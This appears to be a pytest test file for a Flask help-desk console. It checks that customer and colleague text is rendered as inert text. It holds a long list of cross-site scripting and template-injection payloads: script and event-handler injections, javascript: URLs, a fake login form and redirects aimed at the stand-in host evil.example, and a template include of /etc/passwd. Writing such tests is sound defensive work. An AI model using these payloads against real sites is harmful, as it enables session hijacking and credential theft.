"""Whatever customers and callers write is shown as text: no element, no attribute, no handler comes of it."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator

import pytest
from flask.testing import FlaskClient

from common.actors import Role
from common.users import User
from tests.console.factories import World, create_world
from tests.console.page import Page

PAYLOADS = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">click</a>
<a href=" &#106;avascript:alert(1)">click</a>
<form action="https://evil.example"><input name=password></form>
</form><form action="https://evil.example"><button>Sign in</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<marquee onstart=alert(1)>
<style>*{display:none}</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</blockquote></section></aside><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><x onclick=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
'"><img src=x onerror=alert(1)>
`onmouseover=alert(1)`
{{ 7 * 7 }} {{ config }} {% include "/etc/passwd" %}
${alert(1)} <%= 7 * 7 %> #{7*7}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\u202e<script>alert(1)</script>\u2066
<scr\u200bipt>alert(1)</scr\u200bipt>
＜script＞alert(1)＜/script＞
<b>bold</b><i onclick=alert(1)>
<data-region id="composer" data-region><script>1</script></data-region>
</li><li id="notices" data-region>fake</li>""".splitlines()


def shape(markup: str) -> Counter[tuple[str, tuple[str, ...]]]:
    """The page's elements with the names of their attributes: what text must not change."""
    elements = (each for each in Page(markup).elements if each.name != "option")  # one for each team there is
    return Counter((element.name, tuple(sorted(element.attributes))) for element in elements)


def at(world: World, name: str, words: str) -> str:
    """A ticket in whose every free field stand these words."""
    agent = {"id": words[:200], "name": words, "team": words[:200]}
    facts = {"agent": agent, "topic": words[:200], "reference": words}
    return world.unhappy(name, "3", words, **facts)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[World, FlaskClient, str]]:
    """A product, a browser that is signed in, and a harmless thread's page."""
    world = create_world(f"sqlite:///{tmp_path_factory.mktemp('xss')}/zeroten.db")
    world.user()
    client = world.signed_in()
    yield world, client, answered(world, client, "plain", "plain words")
    world.services.close()


def answered(world: World, client: FlaskClient, name: str, words: str) -> str:
    """The page of a thread in which the customer and a colleague of this name wrote these words."""
    ticket_id = at(world, name, words)
    colleague = User(id=f"usr_{ticket_id}", email="x@example.com", name=words, role=Role.SUPERVISOR)
    world.claim(ticket_id, colleague)
    world.reply(ticket_id, colleague.actor, words)
    return client.get(f"/inbox/{ticket_id}?view=resolved").text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_stays_text(desk: tuple[World, FlaskClient, str], payload: str) -> None:
    world, client, plain = desk
    markup = answered(world, client, payload, payload)
    assert shape(markup) == shape(plain)
    page = Page(markup)
    assert payload in page.one("h1", id="thread-title").text
    assert any(payload.strip() == element.text for element in page.all("p", class_="words"))
    lines = Page(client.get("/inbox?view=waiting&shown=500").text)
    assert any(payload in line.text for line in lines.all("li", class_="ticket"))
    assert len(lines.all("script")) == len(page.all("script")) == 8
